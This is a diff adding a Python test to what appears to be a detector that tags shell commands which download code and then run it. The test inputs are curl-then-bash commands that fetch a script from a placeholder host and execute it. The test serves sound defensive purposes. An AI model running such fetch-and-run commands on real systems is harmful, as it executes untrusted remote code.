@@ -619,3 +619,13 @@ def test_code_sourced_from_stdin_or_a_download_substitution_is_downloaded() -> N
     ):
         assert "executes:downloaded" in tags(facts(command)), command
     assert "executes:downloaded" not in tags(facts('source /dev/stdin <<< "export A=1"'))
+
+
+def test_a_download_redirected_to_a_file_and_run_is_downloaded_code() -> None:
+    for command in (
+        "curl -s https://x.example/i.sh > i.sh && bash i.sh",
+        "curl -s https://x.example/i.sh | tee i.sh; bash i.sh",
+    ):
+        assert "executes:downloaded" in tags(facts(command)), command
+    kept = facts("curl -s https://api.example/d.json > d.json && python3 process.py")
+    assert "executes:downloaded" not in tags(kept)
